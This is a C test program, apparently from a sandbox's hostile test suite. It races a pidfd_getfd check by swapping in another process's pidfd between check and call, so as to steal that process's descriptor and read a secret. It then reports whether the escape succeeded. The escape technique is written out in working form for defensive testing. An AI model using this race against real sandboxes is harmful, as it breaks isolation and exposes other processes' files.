/*
 * pidfd_getfd under on-violation log, whose only check is that the pidfd
 * names a process of the run: another thread dup2s a pidfd of a process
 * outside the run (argv[2]: its descriptor, passed on by the harness; that
 * process holds the outside secret as its descriptor 0) onto the number the
 * call names, between the check and the call. A child of the run, holding
 * a harmless file as its descriptor 0, is the allowed target. Reading
 * "secret" from the descriptor taken wins.
 */
#include "hostile.h"
#include <pthread.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

static int inside_fd, outside_fd;
static volatile int stop;

static void pause_a_little(void)
{
	for (volatile int i = 0; i < 2000; i++)
		;
}

static void *changer(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(outside_fd, 50);
		pause_a_little();
		dup2(inside_fd, 50);
		pause_a_little();
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t th;
	time_t end;
	long tries = 0, wins = 0;
	char buf[160];
	pid_t child;
	int fd;

	if (argc < 3)
		cannot("usage: race_pidfd_swap OUTSIDE PIDFD");
	outside_fd = atoi(argv[2]);
	fd = open("harmless", O_CREAT | O_RDWR | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "harmless", 8) != 8)
		cannot("creating ./harmless");
	child = fork();
	if (child == 0) {
		dup2(fd, 0);
		pause();
		_exit(0);
	}
	close(fd);
	inside_fd = (int)syscall(SYS_pidfd_open, child, 0);
	if (child < 0 || inside_fd < 0)
		cannot("a child and its pidfd");
	usleep(100000); /* the child has its descriptor 0 in place */
	if (fcntl(outside_fd, F_GETFD) < 0)
		cannot("the outside process's pidfd was not passed on");
	if (dup2(inside_fd, 50) < 0)
		cannot("dup2");
	pthread_create(&th, NULL, changer, NULL);
	end = time(NULL) + 1;
	while (time(NULL) < end) {
		ssize_t n;

		tries++;
		fd = (int)syscall(SYS_pidfd_getfd, 50, 0, 0);
		if (fd < 0) {
			note_refusal_once(errno);
			continue;
		}
		n = pread(fd, buf, sizeof(buf), 0);
		close(fd);
		if (n >= 6 && memcmp(buf, "secret", 6) == 0)
			wins++;
	}
	stop = 1;
	pthread_join(th, NULL);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	snprintf(buf, sizeof(buf), "pidfd_getfd with its pidfd swapped after the check: won %ld of %ld tries", wins, tries);
	if (wins)
		escaped(buf);
	refused_all(buf);
}
